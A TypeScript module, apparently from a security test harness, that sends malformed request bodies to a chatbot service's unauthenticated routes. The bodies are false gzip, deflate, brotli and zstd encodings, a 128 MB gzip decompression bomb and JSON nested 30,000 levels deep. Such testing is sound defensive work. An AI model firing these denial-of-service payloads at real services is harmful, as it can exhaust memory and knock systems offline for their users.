import { gzipSync } from 'node:zlib';
import type { Attack } from './attack.ts';
import { DIRECT_LINE } from './target.ts';

/** Every route that accepts a body before it authenticates the sender. */
const PATHS = [
  '/api/messages',
  '/api/handoff',
  `${DIRECT_LINE}/visitor-session`,
  `${DIRECT_LINE}/tokens/generate`,
  `${DIRECT_LINE}/conversations`,
  `${DIRECT_LINE}/conversations/none/activities`,
  `${DIRECT_LINE}/conversations/none/upload`,
  '/desk/api/sign-in',
  '/desk/api/set-up',
];
const MEGABYTE = 1024 * 1024;

/** Bodies that falsely claim to be compressed, that expand a thousandfold, or that nest endlessly. */
export const bodies: Attack = {
  name: 'bodies: false gzip, bombs, nesting',
  async run({ send }) {
    const bomb = gzipSync(Buffer.alloc(128 * MEGABYTE));
    const deep = `${'['.repeat(30_000)}${']'.repeat(30_000)}`;
    const deepActivity = `{"type":"message","channelData":${deep}}`;
    const post = (path: string, body: string | Uint8Array, encoding?: string) =>
      send({
        path,
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          ...(encoding === undefined ? {} : { 'content-encoding': encoding }),
        },
        body,
      });
    for (const path of PATHS) {
      for (const encoding of ['gzip', 'deflate', 'br', 'zstd', 'gzip, gzip', 'nonsense'])
        await post(path, 'this is not compressed', encoding);
      await Promise.all([post(path, bomb, 'gzip'), post(path, bomb.subarray(0, 5_000), 'gzip')]);
      await post(path, deep);
      await post(path, deepActivity);
    }
    return undefined;
  },
};
